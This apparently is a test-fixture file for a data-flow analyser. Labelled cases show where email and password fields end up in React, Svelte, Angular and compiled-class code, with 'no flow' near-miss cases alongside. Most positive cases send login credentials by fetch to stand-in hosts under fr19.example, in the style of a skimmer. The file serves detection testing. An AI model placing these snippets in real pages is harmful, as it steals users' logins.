// Frameworks and compilers inside bundles: what they bind, what one handler hears, and classes that run their parent's.

//# svelte-binding-without-its-name
// flow: email > sbw.fr19.example via fetch
// flow: password > sbx.fr19.example via fetch
(function () {
  const opt = (o) => o.$$events;
  function made(html) { return () => { const t = document.createElement('template'); t.innerHTML = html; return t.content.cloneNode(true); }; }
  const inside = (n) => n.firstChild, after = (n, c) => n.nextSibling;
  function held(v) { return { v }; }
  const g = (s) => s.v, s = (x, v) => { x.v = v; };
  function b(el, get, set) { el.addEventListener('input', () => set(el.value)); el.value = get(); }
  const m = made('<form><input type="email"> <input type="password"> <button>Go</button></form>');
  function Login(anchor, props) {
    let mail = held(''), word = held('');
    const form = m(), one = inside(form), two = after(one, 2);
    form.onsubmit = () => { fetch('https://sbw.fr19.example/in', { method: 'POST', body: g(mail) }); fetch('https://sbx.fr19.example/in', { method: 'POST', body: g(word) }); };
    b(one, () => g(mail), (v) => s(mail, v));
    b(two, () => g(word), (v) => s(word, v));
  }
  window.mount(Login, opt);
})();

//# near-function-of-two-functions-without-markup
// no flow
// why: nothing typed is bound, the third function is handed a number of the page
(function () {
  const opt = (o) => o.$$events;
  function b(el, get, set) { set(el.dataset.count | 0); }
  let n = 0;
  const el = document.querySelector('#count');
  b(el, () => n, (v) => { n = v; });
  fetch('https://nft.fr19.example/in', { method: 'POST', body: 'n' });
  window.mount(opt);
})();

//# handler-with-the-target-in-a-pattern
// flow: email > htp.fr19.example via fetch
// flow: password > htp.fr19.example via fetch
class Form19 extends React.Component {
  state = { email: '', password: '' };
  change = ({ target }) => this.setState({ [target.name]: target.value });
  send = () => { fetch('https://htp.fr19.example/in', { method: 'POST', body: JSON.stringify(this.state) }); };
  render() { return React.createElement('form', { onSubmit: this.send }, React.createElement('input', { name: 'email', type: 'email', onChange: this.change }), React.createElement('input', { name: 'password', type: 'password', onChange: this.change })); }
}
ReactDOM.render(React.createElement(Form19), document.body);

//# handler-with-name-and-value-in-a-pattern
// flow: email > hnv.fr19.example via fetch
// flow: password > hnv.fr19.example via fetch
function Both19() {
  const [form, setForm] = React.useState({ email: '', password: '' });
  const change = ({ target: { name, value } }) => setForm((old) => ({ ...old, [name]: value }));
  const send = () => fetch('https://hnv.fr19.example/in', { method: 'POST', body: JSON.stringify(form) });
  return React.createElement('form', { onSubmit: send }, React.createElement('input', { name: 'email', type: 'email', onChange: change }), React.createElement('input', { name: 'password', type: 'password', onChange: change }));
}
ReactDOM.render(React.createElement(Both19), document.body);

//# near-target-in-a-pattern-of-a-button
// no flow
// why: what is clicked is a button, and what is told is its label
class Tabs19 extends React.Component {
  state = { tab: '' };
  pick = ({ target }) => { fetch('https://ntp.fr19.example/in', { method: 'POST', body: target.dataset.tab }); };
  render() { return React.createElement('button', { onClick: this.pick }, 'One'); }
}
ReactDOM.render(React.createElement(Tabs19), document.body);

//# state-set-under-another-name-of-this
// flow: email > ssa.fr19.example via fetch
var Page19 = function (Base) {
  function Page() {
    var self;
    self = run(this, Page, []);
    self.change = function (e) { self.setState(function () { return { mail: e.target.value }; }); };
    self.send = function () { fetch('https://ssa.fr19.example/in', { method: 'POST', body: self.state.mail }); };
    return self;
  }
  inherit(Page, Base);
  Page.prototype.render = function () { return React.createElement('form', { onSubmit: this.send }, React.createElement('input', { type: 'email', onChange: this.change })); };
  return Page;
}(React.Component);
function inherit(sub, base) { sub.prototype = Object.create(base && base.prototype, { constructor: { value: sub, writable: true, configurable: true } }); Object.setPrototypeOf(sub, base); }
function run(self, sub, given) { var base = Object.getPrototypeOf(sub); return kept(self, canConstruct() ? Reflect.construct(base, given || [], Object.getPrototypeOf(self).constructor) : base.apply(self, given)); }
function kept(self, made) { return made && typeof made === 'object' ? made : self; }
function canConstruct() { try { return !Boolean.prototype.valueOf.call(Reflect.construct(Boolean, [], function () {})); } catch (e) { return false; } }
ReactDOM.render(React.createElement(Page19), document.body);

//# parent-run-by-a-helper
// flow: password > prh.fr19.example via fetch
// flow: email > pro.fr19.example via fetch
var Api19 = function () {
  function Api(base) { this.base = base; }
  Api.prototype.send = function (path, body) { return fetch(this.base + path, { method: 'POST', body: body }); };
  return Api;
}();
var Session19 = function (Base) {
  function Session() { return run(this, Session, ['https://prh.fr19.example']); }
  inherit(Session, Base);
  Session.prototype.login = function (word) { return this.send('/login', word); };
  return Session;
}(Api19);
function inherit(sub, base) { sub.prototype = Object.create(base && base.prototype, { constructor: { value: sub, writable: true, configurable: true } }); Object.setPrototypeOf(sub, base); }
function run(self, sub, given) { var base = Object.getPrototypeOf(sub); return kept(self, Reflect.construct(base, given || [], Object.getPrototypeOf(self).constructor)); }
function kept(self, made) { return made && typeof made === 'object' ? made : self; }
var session = new Session19(), other = new Api19('https://pro.fr19.example');
document.querySelector('#go').onclick = function () { session.login(document.querySelector('#password').value); };
document.querySelector('#tell').onclick = function () { other.send('/seen', document.querySelector('#email').value); };

//# near-check-of-a-class
// flow: email > ncc.fr19.example via fetch
// why: the helper with `this` and the class only looks at both; the base is what the constructor is given
var Client19 = function (Base) {
  function Client(base) { check(this, Client); this.base = base; }
  inherit(Client, Base);
  Client.prototype.tell = function (mail) { return fetch(this.base + '/m', { method: 'POST', body: mail }); };
  return Client;
}(Object);
function inherit(sub, base) { sub.prototype = Object.create(base && base.prototype); }
function check(self, klass) { if (!(self instanceof klass)) throw new TypeError('Cannot call a class as a function'); }
var client19 = new Client19('https://ncc.fr19.example');
document.querySelector('#go').onclick = function () { client19.tell(document.querySelector('#email').value); };

//# async-method-as-typescript-writes-it
// flow: password > amt.fr19.example via fetch
// flow: email > amo.fr19.example via fetch
var Box19 = (function () {
  function Box(base) { this.base = base; }
  Box.prototype.send = function (path, body) {
    return wait(this, void 0, void 0, function () {
      return steps(this, function (_a) {
        switch (_a.label) {
          case 0: return [4, fetch(this.base + path, { method: 'POST', body: body })];
          case 1: _a.sent(); return [2];
        }
      });
    });
  };
  return Box;
})();
function wait(self, given, P, generator) { return new Promise(function (done, failed) { function step(r) { r.done ? done(r.value) : Promise.resolve(r.value).then(function (v) { step(generator.next(v)); }); } step((generator = generator.apply(self, given || [])).next()); }); }
function steps(self, body) { var _ = { label: 0, sent: function () { return _.v; } }; return { next: function (v) { _.v = v; var op = body.call(self, _); _.label++; return { value: op[1], done: op[0] === 2 }; } }; }
var one19 = new Box19('https://amt.fr19.example'), two19 = new Box19('https://amo.fr19.example');
document.querySelector('#go').onclick = function () { one19.send('/login', document.querySelector('#password').value); };
document.querySelector('#tell').onclick = function () { two19.send('/seen', document.querySelector('#email').value); };

//# form-that-is-a-component
// flow: email > ftc.fr19.example via fetch
// flow: password > ftc.fr19.example via fetch
(function (react, forms) {
  const send = async (values) => { await fetch('https://ftc.fr19.example/in', { method: 'POST', body: JSON.stringify(values) }); };
  const Login = () => react.createElement(forms.Form, { onSubmit: send, render: ({ handleSubmit: h }) => react.createElement('form', { onSubmit: h }, react.createElement(forms.Field, { name: 'email', component: 'input', type: 'email' }), react.createElement(forms.Field, { name: 'password', component: 'input', type: 'password' })) });
  window.show(Login);
})(window.React, window.forms);

//# near-component-without-fields
// no flow
// why: the component is a list whose rows are drawn; what is handed on is which one was chosen
(function (react, lists) {
  const chosen = (row) => { fetch('https://ncf.fr19.example/in', { method: 'POST', body: String(row.id) }); };
  window.show(() => react.createElement(lists.Table, { onSubmit: chosen, render: (row) => react.createElement('td', null, row.label) }));
})(window.React, window.lists);

//# action-called-past-the-module
// flow: password > acm.fr19.example via fetch
(function () {
  const lib = {};
  const now = { H: null };
  lib.useActionState = function (a, b, c) { return now.H.useActionState(a, b, c); };
  lib.createElement = function (tag, props) { return { tag, props }; };
  async function login(old, data) { await fetch('https://acm.fr19.example/in', { method: 'POST', body: data.get('password') }); return null; }
  function Login() { const [s, act] = (0, lib.useActionState)(login, null); return lib.createElement('form', { action: act }, lib.createElement('input', { name: 'password', type: 'password' })); }
  window.show(Login, now);
})();

//# near-own-function-of-that-name
// no flow
// why: the function of that name is the script's own, and hands the other a counter
(function () {
  function useActionState(fn) { return [0, () => fn(null, new Map([['password', 3]]))]; }
  const [s, act] = useActionState((old, data) => fetch('https://nof.fr19.example/in', { method: 'POST', body: String(data.get('password')) }));
  document.querySelector('#go').onclick = act;
})();

//# map-that-mirrors-a-property
// flow: email > mmp.fr19.example via fetch
(function () {
  const before = new Map();
  const a = { v: '' }, b = { v: '' };
  function put(x, v) { if (!before.has(x)) before.set(x, x.v); x.v = v; }
  function old(x) { return before.get(x); }
  document.querySelector('input[type=email]').oninput = (e) => put(a, e.target.value);
  document.querySelector('input[type=password]').oninput = (e) => put(b, e.target.value);
  document.querySelector('#go').onclick = () => { fetch('https://mmp.fr19.example/in', { method: 'POST', body: old(a) }); };
})();

//# angular-form-described-by-an-object
// flow: email > afd.fr19.example via fetch
// flow: password > afd.fr19.example via fetch
(function (ng) {
  class Page { constructor(b) { this.form = b.group({ mail: ['', ng.required], word: ['', ng.required] }); } send() { fetch('https://afd.fr19.example/in', { method: 'POST', body: JSON.stringify(this.form.value) }); } static ɵfac = (t) => new (t || Page)(ng.inject(ng.FormBuilder)); static ɵcmp = ng.define({ type: Page, consts: [[3, 'ngSubmit', 'formGroup'], ['type', 'email', 'formControlName', 'mail'], ['type', 'password', 'formControlName', 'word']], template: function (rf, ctx) { if (rf & 1) { ng.listener('ngSubmit', function () { return ctx.send(); }); } } }); }
  ng.start(Page);
})(window.ng);

//# angular-control-of-a-form
// flow: password > aco.fr19.example via fetch
(function (ng) {
  class Page { form = new ng.FormGroup({ mail: new ng.FormControl(''), word: new ng.FormControl('') }); send() { fetch('https://aco.fr19.example/in', { method: 'POST', body: this.form.get('word').value }); } static ɵfac = (t) => new (t || Page)(); static ɵcmp = ng.define({ type: Page, consts: [['type', 'email', 'formControlName', 'mail'], ['type', 'password', 'formControlName', 'word']], template: function (rf, ctx) { if (rf & 1) { ng.listener('ngSubmit', function () { return ctx.send(); }); } } }); }
  ng.start(Page);
})(window.ng);

//# near-angular-form-of-settings
// no flow
// why: what is sent is how many items a page has, of an object that is no form
(function (ng) {
  class Page { constructor(list) { this.form = ng.filter({ mail: 3, word: 4 }); } send() { fetch('https://nas.fr19.example/in', { method: 'POST', body: String(this.form.value) }); } static ɵcmp = ng.define({ type: Page, consts: [['type', 'email', 'formControlName', 'mail'], ['type', 'password', 'formControlName', 'word']] }); }
  ng.start(Page);
})(window.ng);

//# form-with-default-values
// flow: email > fdv.fr19.example via fetch
// flow: password > fdv.fr19.example via fetch
(function (react, forms, queries) {
  function Login() {
    const login = queries.useMutation({ mutationFn: (given) => fetch('https://fdv.fr19.example/in', { method: 'POST', body: JSON.stringify(given) }) });
    const form = forms.useForm({ defaultValues: { email: '', password: '' }, onSubmit: async ({ value }) => { await login.mutateAsync(value); } });
    return react.createElement('form', { onSubmit: (e) => { e.preventDefault(); form.handleSubmit(); } });
  }
  window.show(Login);
})(window.React, window.forms, window.queries);

//# near-default-values-that-are-kept
// no flow
// why: what is sent of the form is how often it was tried
(function (react, forms) {
  function Login() {
    const form = forms.useForm({ defaultValues: { email: '', password: '' }, onSubmit: async ({ tries }) => { await fetch('https://ndv.fr19.example/in', { method: 'POST', body: String(tries) }); } });
    return react.createElement('form', { onSubmit: (e) => { e.preventDefault(); form.handleSubmit(); } });
  }
  window.show(Login);
})(window.React, window.forms);

//# one-handler-keeps-each-under-its-name
// flow: email > ohk.fr19.example via fetch
// flow: password > ohl.fr19.example via fetch
function Kept19() {
  const [form, setForm] = React.useState({ email: '', password: '' });
  const change = (e) => setForm({ ...form, [e.target.name]: e.target.value });
  const send = () => { fetch('https://ohk.fr19.example/in', { method: 'POST', body: form.email }); fetch('https://ohl.fr19.example/in', { method: 'POST', body: form.password }); };
  return React.createElement('form', { onSubmit: send }, React.createElement('input', { name: 'email', type: 'email', onChange: change }), React.createElement('input', { name: 'password', type: 'password', onChange: change }));
}
ReactDOM.render(React.createElement(Kept19), document.body);

//# one-pattern-keeps-each-under-its-name
// flow: email > opk.fr19.example via fetch
// flow: password > opl.fr19.example via fetch
function Taken19() {
  const [form, setForm] = React.useState({ email: '', password: '' });
  const change = ({ target: { name, value } }) => setForm((old) => ({ ...old, [name]: value }));
  const send = () => { fetch('https://opk.fr19.example/in', { method: 'POST', body: form.email }); fetch('https://opl.fr19.example/in', { method: 'POST', body: JSON.stringify({ p: form.password }) }); };
  return React.createElement('form', { onSubmit: send }, React.createElement('input', { name: 'email', type: 'email', onChange: change }), React.createElement('input', { name: 'password', type: 'password', onChange: change }));
}
ReactDOM.render(React.createElement(Taken19), document.body);

//# picked-from-a-store-by-name
// flow: email > pfs.fr19.example via fetch
// flow: password > pft.fr19.example via fetch
(function (react) {
  const made = (init) => { let state; const subs = new Set(); const set = (part) => { state = { ...state, ...part }; subs.forEach((f) => f()); }; const get = () => state; state = init(set, get); return (pick) => pick(get()); };
  const use = made((set, get) => ({ email: '', password: '', setEmail: (email) => set({ email }), setPassword: (password) => set({ password }), send: () => { const { email, password } = get(); fetch('https://pfs.fr19.example/in', { method: 'POST', body: email }); fetch('https://pft.fr19.example/in', { method: 'POST', body: password }); } }));
  function Login() {
    const a = use((s) => s.setEmail), b = use((s) => s.setPassword), c = use((s) => s.send);
    return react.createElement('form', { onSubmit: c }, react.createElement('input', { type: 'email', onChange: (e) => a(e.target.value) }), react.createElement('input', { type: 'password', onChange: (e) => b(e.target.value) }));
  }
  window.show(Login);
})(window.React);
